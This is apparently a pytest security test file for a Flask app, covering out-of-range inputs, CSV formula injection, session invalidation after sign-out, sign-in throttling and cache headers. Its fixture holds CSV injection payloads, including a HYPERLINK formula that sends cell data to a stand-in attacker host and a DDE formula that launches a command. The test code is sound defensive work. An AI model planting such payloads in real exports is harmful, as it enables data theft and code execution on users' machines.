"""Attacks on the edges of the app, each followed by the refusal it must meet: numbers no
row can have, spreadsheet formulas in CSV downloads, a session cookie kept past sign-out,
sign-in throttles that can be dodged or turned against the owner, and private pages left
in caches."""

from __future__ import annotations

import csv
import io

import pytest
from flask import Flask
from flask.testing import FlaskClient
from sqlalchemy import select

from app.api.pagination import encode
from app.governance import DecisionFields, create_decision
from app.models import User
from tests.helpers import PASSWORD, StaffClient, csrf_token, make_user, run_cli, sessions_of

HUGE = "99999999999999999999"  # beyond 64 bits: no database column holds it
DIGITS = "9" * 5000  # beyond what Python converts from text without complaint
NUL_NAME = "foundation\x00"  # no database text holds a NUL
HOSTILE_CELLS = {
    "title": '=HYPERLINK("https://evil.example/?"&A1,"details")',
    "decided_by": "@SUM(1+1)*cmd|' /C calc'!A0",
    "outcome": "+1-1",
}


pytestmark = pytest.mark.usefixtures("plain_and_formula_decisions")


@pytest.fixture
def plain_and_formula_decisions(foundation_app: Flask) -> None:
    """Two decisions added to the foundation list: "Interoperability first", and one whose
    fields are spreadsheet formulas (HOSTILE_CELLS)."""
    with sessions_of(foundation_app)() as session:
        create_decision(session, DecisionFields(title="Interoperability first"), None)
        create_decision(session, DecisionFields(**HOSTILE_CELLS), None)
        session.commit()


def sign_in_from(client: FlaskClient, address: str, name: str, password: str) -> int:
    """The status of a sign-in posted from `address`."""
    response = client.post(
        "/login",
        data={"csrf_token": csrf_token(client), "name": name, "password": password},
        environ_base={"REMOTE_ADDR": address},
    )
    return response.status_code


def sign_out(client: FlaskClient) -> None:
    response = client.post("/logout", data={"csrf_token": csrf_token(client, "/")})
    assert response.status_code == 302


# Numbers out of range --------------------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "status"),
    [
        ("/lists/foundation/0-1", 404),
        ("/lists/foundation/9999-12", 404),
        (f"/lists/foundation/{HUGE}-1", 404),
        (f"/lists/foundation?page={HUGE}", 400),
        (f"/search?q=interoperability&page={HUGE}", 400),
        (f"/decisions?year={HUGE}", 400),
        ("/decisions?year=²", 400),
        (f"/people/{HUGE}", 404),
    ],
)
def test_numbers_no_row_can_have_are_refused_on_public_pages(
    foundation_client: FlaskClient, url: str, status: int
) -> None:
    assert foundation_client.get(url).status_code == status


def test_numbers_no_row_can_have_are_refused_on_staff_pages(staff_client: StaffClient) -> None:
    admin = staff_client("admin")
    token = csrf_token(admin, "/admin/users")
    assert admin.get(f"/admin/audit?page={HUGE}").status_code == 400
    assert admin.post(f"/admin/users/{HUGE}", data={"csrf_token": token}).status_code == 404
    revoke = admin.post(f"/account/tokens/{HUGE}/revoke", data={"csrf_token": token})
    assert revoke.status_code == 404


@pytest.mark.parametrize(
    "url",
    [
        f"/api/v1/decisions?cursor={encode('decisions', [int(HUGE)])}",
        f"/api/v1/threads?cursor={encode('threads', ['2014-02-04T00:00:00', int(HUGE)])}",
        f"/api/v1/search?q=interoperability&cursor={encode('search', [int(HUGE)])}",
        f"/api/v1/lists?cursor={encode('lists', [NUL_NAME])}",
        f"/api/v1/decisions?limit={DIGITS}",
    ],
)
def test_crafted_api_cursors_and_numbers_are_problems(
    foundation_client: FlaskClient, url: str
) -> None:
    response = foundation_client.get(url)
    assert response.status_code == 400
    assert response.mimetype == "application/problem+json"
    assert response.get_json()["status"] == 400


# CSV downloads -----------------------------------------------------------------------------


def test_csv_cells_that_would_run_as_formulas_are_made_inert(
    foundation_client: FlaskClient,
) -> None:
    download = foundation_client.get("/decisions.csv").get_data(as_text=True)
    rows = {row["slug"]: row for row in csv.DictReader(io.StringIO(download))}
    hostile = next(row for row in rows.values() if row["title"].endswith('"details")'))
    for column, value in HOSTILE_CELLS.items():
        assert hostile[column] == "'" + value
    assert rows["interoperability-first"]["title"] == "Interoperability first"


# Sign-out --------------------------------------------------------------------------------


def copy_of_session(app: Flask, client: FlaskClient) -> FlaskClient:
    """Another browser holding a copy of `client`'s session cookie, as a thief would."""
    cookie = client.get_cookie("session")
    assert cookie is not None
    thief = app.test_client()
    thief.set_cookie("session", cookie.value)
    return thief


def test_a_session_cookie_copied_before_sign_out_is_dead_after_it(
    foundation_app: Flask, staff_client: StaffClient
) -> None:
    viewer = staff_client("viewer")
    thief = copy_of_session(foundation_app, viewer)
    assert thief.get("/account/tokens").status_code == 200

    sign_out(viewer)

    assert thief.get("/account/tokens").status_code == 302  # to the sign-in page
    assert sign_in_from(viewer, "127.0.0.1", "viewer-user", PASSWORD) == 302
    assert viewer.get("/account/tokens").status_code == 200


def test_reactivating_an_account_does_not_revive_its_old_sessions(
    foundation_app: Flask, staff_client: StaffClient
) -> None:
    viewer = staff_client("viewer")
    thief = copy_of_session(foundation_app, viewer)
    admin = staff_client("admin")
    with sessions_of(foundation_app)() as session:
        viewer_id = session.scalar(select(User.id).where(User.name == "viewer-user"))
    token = csrf_token(admin, "/admin/users")
    url = f"/admin/users/{viewer_id}"

    admin.post(url, data={"csrf_token": token, "role": "viewer"})  # deactivated
    admin.post(url, data={"csrf_token": token, "role": "viewer", "active": "y"})

    assert thief.get("/account/tokens").status_code == 302


# Sign-in throttling ----------------------------------------------------------------------


def test_a_strangers_failures_do_not_lock_the_owner_out(foundation_app: Flask) -> None:
    make_user(foundation_app, "ada", "admin")
    stranger = foundation_app.test_client()
    for _ in range(5):
        assert sign_in_from(stranger, "198.51.100.7", "ada", "wrong password!") == 401
    assert sign_in_from(stranger, "198.51.100.7", "ada", PASSWORD) == 429

    owner = foundation_app.test_client()
    assert sign_in_from(owner, "203.0.113.9", "ada", PASSWORD) == 302


def test_guessing_spread_over_addresses_and_spellings_is_capped_but_not_for_the_owner(
    foundation_app: Flask,
) -> None:
    make_user(foundation_app, "ada", "admin")
    owner = foundation_app.test_client()
    assert sign_in_from(owner, "203.0.113.9", "ada", PASSWORD) == 302
    sign_out(owner)

    spellings = ["ada", " ada", "ada ", "  ada  ", "\tada"]
    for host in range(1, 5):
        attacker = foundation_app.test_client()
        for name in spellings:
            assert sign_in_from(attacker, f"198.51.100.{host}", name, "wrong password!") == 401

    newcomer = foundation_app.test_client()
    assert sign_in_from(newcomer, "192.0.2.50", " ada ", PASSWORD) == 429
    assert sign_in_from(owner, "192.0.2.50", "ada", PASSWORD) == 302


# Caching ---------------------------------------------------------------------------------


def test_pages_for_signed_in_users_are_never_stored_but_public_ones_may_be(
    foundation_client: FlaskClient, staff_client: StaffClient
) -> None:
    anonymous = foundation_client.get("/lists/foundation")
    assert "no-store" not in anonymous.headers.get("Cache-Control", "")

    viewer = staff_client("viewer")
    assert viewer.get("/lists/foundation").headers["Cache-Control"] == "no-store"
    created = viewer.post(
        "/account/tokens",
        data={"csrf_token": csrf_token(viewer, "/account/tokens"), "label": "laptop"},
    )
    assert "qrm_" in created.get_data(as_text=True)
    assert created.headers["Cache-Control"] == "no-store"


def test_api_answers_to_a_token_holder_are_never_stored(foundation_app: Flask) -> None:
    make_user(foundation_app, "reader", "viewer")
    secret = run_cli(foundation_app, "users", "token", "reader").output.strip()
    client = foundation_app.test_client()
    answer = client.get("/api/v1/lists", headers={"Authorization": f"Bearer {secret}"})
    assert answer.status_code == 200
    assert answer.headers["Cache-Control"] == "no-store"
    assert "no-store" not in client.get("/api/v1/lists").headers.get("Cache-Control", "")


def test_a_malformed_token_header_on_a_read_is_answered_not_a_server_error(
    foundation_client: FlaskClient,
) -> None:
    """A read that never looks at the token still carries credentials: the response is
    private (no-store), and deciding that must not load (and reject) the token after the
    response was made."""
    answer = foundation_client.get(
        "/api/v1/threads", headers={"Authorization": "Basic bm90IGEgdG9rZW4="}
    )
    assert answer.status_code < 500
    assert answer.headers["Cache-Control"] == "no-store"
